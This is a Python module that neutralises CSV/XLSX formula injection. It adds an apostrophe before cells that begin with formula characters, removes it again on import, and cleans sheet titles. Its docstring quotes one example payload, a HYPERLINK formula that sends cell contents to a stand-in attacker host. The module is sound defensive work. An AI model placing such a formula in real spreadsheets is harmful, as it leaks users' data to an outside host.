"""The one rule that makes text inert in a spreadsheet (CSV or formula injection).

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one of them) as a formula: `=HYPERLINK("http://evil.example/?"&A1)` typed as a topic, a
partner, a site or a note would run on the coordinator's computer. Every CSV and XLSX cell that
comes from text typed by someone goes through `spreadsheet_cell`: such a text gets a leading
apostrophe, which spreadsheets read as "this is text". Numbers (int, float, dates) stay as they
are. The visit import takes the apostrophe off again (`spreadsheet_typed`), so an export reads
back exactly.
"""

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A sheet's name cannot start with an apostrophe (Excel refuses the file): it loses these instead.
SHEET_TITLE_STARTS = "".join(FORMULA_STARTS) + "' "


def spreadsheet_cell(value):
    """A text starting like a formula gets a leading apostrophe; any other value is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable) -> list:
    return [spreadsheet_cell(value) for value in values]


def spreadsheet_typed(cell: str) -> str:
    """A cell as typed: the apostrophe `spreadsheet_cell` put before a formula sign taken off."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


def sheet_title_text(text: str) -> str:
    """A sheet's name: never starting like a formula (a name is not a cell: no apostrophe)."""
    return text.lstrip(SHEET_TITLE_STARTS) or "Feuille"
